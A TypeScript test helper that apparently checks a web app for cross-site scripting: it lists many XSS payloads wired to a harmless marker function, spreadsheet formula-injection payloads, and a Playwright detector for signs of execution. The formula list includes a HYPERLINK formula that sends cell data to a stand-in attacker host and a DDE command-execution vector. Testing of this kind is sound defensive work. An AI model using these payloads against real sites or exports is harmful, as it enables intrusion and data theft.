/**
 * Cross-site scripting checks for any page: known payloads, each of which
 * calls `xss(<id>)` (or `alert(<id>)`) if it ever runs, and a detector that
 * looks for any sign that one did or nearly did: a recorded call, a dialog, a
 * CSP violation report (the CSP blocked an injected script: the escaping
 * failed), or markup in the DOM that only an injection would produce.
 *
 * New pages that show user text (accounts, the consultant dashboard) use
 * `XSS_PAYLOADS`, `openXssContext` and `findExecution` the same way.
 */
import { existsSync } from 'node:fs';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';

export interface XssPayload {
  id: number;
  text: string;
}

const RAW_PAYLOADS: string[] = [
  '<script>xss(ID)</script>',
  '<img src=x onerror=xss(ID)>',
  '<svg onload=xss(ID)>',
  '<svg><script>xss(ID)</script></svg>',
  '"><script>xss(ID)</script>',
  "'><img src=x onerror=xss(ID)>",
  '" autofocus onfocus="xss(ID)',
  "' autofocus onfocus='xss(ID)",
  '"onmouseover="xss(ID)" x="',
  '</textarea><script>xss(ID)</script>',
  '</title><script>xss(ID)</script>',
  '</style><script>xss(ID)</script>',
  '<iframe srcdoc="<script>parent.xss(ID)</script>"></iframe>',
  '<a href="javascript:xss(ID)">link</a>',
  'javascript:xss(ID)',
  '<details open ontoggle=xss(ID)>',
  '<body onload=xss(ID)>',
  '<input autofocus onfocus=xss(ID)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss(ID)>',
  '<!--<img src="--><img src=x onerror=xss(ID)//">',
  "{{constructor.constructor('xss(ID)')()}}",
  '${xss(ID)}',
  '#{xss(ID)}',
  '<%= xss(ID) %>',
  '<scr<script>ipt>xss(ID)</scr</script>ipt>',
  '\uFF1Cscript\uFF1Exss(ID)\uFF1C/script\uFF1E',
  '\\u003cscript\\u003exss(ID)\\u003c/script\\u003e',
  '<img src=x onerror=&#x78;&#x73;&#x73;(ID)>',
  '&lt;script&gt;xss(ID)&lt;/script&gt;',
  '<svg><animate onbegin=xss(ID) attributeName=x dur=1s>',
  '<object data="javascript:xss(ID)"></object>',
  '<embed src="javascript:xss(ID)">',
  '<form action="javascript:xss(ID)"><button>go</button></form>',
  '<base href="javascript:xss(ID)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss(ID)">',
  '<img src=x onerror=alert(ID)>',
  '<video><source onerror=xss(ID)></video>',
  '<audio src=x onerror=xss(ID)>',
  '<scr\u0130pt>xss(ID)</scr\u0130pt>',
  '\u2028<script>xss(ID)</script>',
  '<img src=x onerror=xss(ID)\u0000>',
  '<IMG SRC=x OnErRoR=xss(ID)>',
  '<svg/onload=xss(ID)>@x.nl',
  '"><img/src=x/onerror=xss(ID)>@x.nl',
  "'autofocus/onfocus='xss(ID)'@x.nl",
  '<script/src=data:,xss(ID)></script>@x.nl',
];

/** Every payload with its own id, so a hit names the payload that ran. */
export const XSS_PAYLOADS: XssPayload[] = RAW_PAYLOADS.map((text, i) => ({ id: 1000 + i, text: text.replaceAll('ID', String(1000 + i)) }));

/**
 * Text a spreadsheet would run as a formula when it opens an export (OWASP
 * "CSV injection"): cells starting with = + - @, a tab or a carriage return.
 * Harmless in a page; in a CSV cell each must arrive with a leading apostrophe.
 */
export const FORMULA_PAYLOADS: XssPayload[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Klik") (ID)',
  "=cmd|' /C calc'!A0 (ID)",
  '+31 6 12345678 (ID)',
  '-2+3 (ID)',
  '@SUM(1+1) (ID)',
  '=1+1;=2+2 (ID)',
  '"=quoted" (ID)',
].map((text, i) => ({ id: 2000 + i, text: text.replaceAll('ID', String(2000 + i)) }));

/** Payloads that pass the Growth Test's simple e-mail check, so they get stored in an e-mail field too. */
export const EMAIL_SHAPED_PAYLOADS = XSS_PAYLOADS.filter((p) => /^[^\s@]+@[^\s@]+\.[^\s@]+$/.test(p.text));

declare global {
  interface Window {
    __xssHits: string[];
    xss: (id: number) => void;
  }
}

export function launchChromium(): Promise<Browser> {
  return chromium.launch({
    executablePath: existsSync('/usr/bin/chromium') ? '/usr/bin/chromium' : undefined,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'],
  });
}

/**
 * A browser context that records every sign of execution. `bypassCSP` turns
 * the page's CSP off, so the output escaping is tested on its own.
 */
export async function openXssContext(browser: Browser, options: { bypassCSP: boolean }): Promise<BrowserContext> {
  const context = await browser.newContext({ bypassCSP: options.bypassCSP });
  await context.addInitScript(() => {
    window.__xssHits = [];
    window.xss = (id: number) => window.__xssHits.push(`xss(${id})`);
    document.addEventListener('securitypolicyviolation', (event) => {
      window.__xssHits.push(`csp-violation ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return context;
}

/** Dialogs opened by a page (alert, confirm, prompt), dismissed and recorded. */
export function recordDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return dialogs;
}

/**
 * Every sign that an injected payload ran or became markup on the current
 * page, as readable lines (empty when clean).
 */
export async function findExecution(page: Page, dialogs: string[]): Promise<string[]> {
  // Give autofocus and animation handlers a moment to fire (markup that could run is caught below anyway).
  await page.waitForTimeout(10);
  const found = await page.evaluate(() => {
    const problems = [...window.__xssHits];
    for (const element of document.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        if (attribute.name.startsWith('on')) problems.push(`<${element.localName} ${attribute.name}> in the DOM`);
        if (/^\s*(javascript|data):/i.test(attribute.value) && ['href', 'src', 'action', 'data', 'formaction'].includes(attribute.name)) {
          problems.push(`<${element.localName} ${attribute.name}="${attribute.value.slice(0, 40)}"> in the DOM`);
        }
      }
    }
    // Elements Koers never renders itself (a <details> it does: the resume link, open as #link-mailen once
    // "mail me this link" was sent; <svg> too: the bars of
    // BarChart, class "bar", holding one <rect>, and RadarSvg, class "radar-svg", holding only shapes
    // and text; the attribute check above has seen both).
    const radarParts = new Set(['g', 'polygon', 'line', 'circle', 'text', 'tspan']);
    for (const element of document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], svg, math, video, audio, details[open]')) {
      const ownBar = element.localName === 'svg' && element.getAttribute('class') === 'bar' && [...element.children].every((child) => child.localName === 'rect' && child.children.length === 0);
      const ownRadar = element.localName === 'svg' && element.getAttribute('class') === 'radar-svg' && [...element.querySelectorAll('*')].every((child) => radarParts.has(child.localName));
      // The owner's live preview of the widget (EmbedSection): the loader's frames of Koers's own /e/<publicId>?voorbeeld.
      const frameUrl = element.localName === 'iframe' ? new URL((element as HTMLIFrameElement).src, location.href) : null;
      const ownPreview = !!frameUrl && frameUrl.origin === location.origin && /^\/(en\/)?e\/[a-z0-9]{26,32}$/.test(frameUrl.pathname) && frameUrl.search === '?voorbeeld';
      const ownMailLink = element.localName === 'details' && element.id === 'link-mailen' && element.firstElementChild?.localName === 'summary';
      if (!ownBar && !ownRadar && !ownPreview && !ownMailLink) problems.push(`<${element.localName}> in the DOM`);
    }
    for (const script of document.querySelectorAll('script')) {
      // The app's own scripts are modules with a src or the hashed bootstrap; an injected one mentions xss(.
      if (script.textContent?.includes('xss(')) problems.push('injected <script> in the DOM');
    }
    return problems;
  });
  return [...found, ...dialogs];
}
